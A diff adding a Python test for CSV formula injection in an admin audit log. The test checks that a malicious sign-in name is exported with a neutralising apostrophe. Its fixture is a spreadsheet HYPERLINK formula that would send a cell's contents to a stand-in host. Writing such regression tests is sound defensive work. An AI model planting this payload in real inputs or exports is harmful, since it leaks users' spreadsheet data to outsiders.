@@ -111,3 +111,18 @@ def test_the_whole_log_reads_in_dutch(admin_page: AppTest) -> None:
     shown = " ".join(str(v) for v in mine.to_numpy().ravel())
     for raw in ("failed", "command line", "report collaboration", "opened"):
         assert raw not in shown
+
+
+def test_a_formula_typed_at_the_sign_in_page_is_shown_inert_in_the_log(admin_page: AppTest) -> None:
+    """Anyone may type a user name at the sign-in page, and the refusal is logged with it: the table's own
+    "download as CSV" wrote ``=HYPERLINK(…)`` into the admin's file as a formula (a steward's walk, 08-12-2026)."""
+    from queries.access import Actor, audit_action
+
+    typed = '=HYPERLINK("http://x.test/?a="&A1;"klik")'
+    audit_action(default_audit_log(), Actor(typed, Role.POLICYMAKER, ""), "sign_in", result="denied",
+                 detail="unknown user")
+    at = admin_page
+    at.run()
+    _box(at, "Alleen deze gebruiker").input(typed).run()
+    table = at.dataframe[-1].value
+    assert list(table.iloc[:, 1])[:1] == ["'" + typed], table.head()
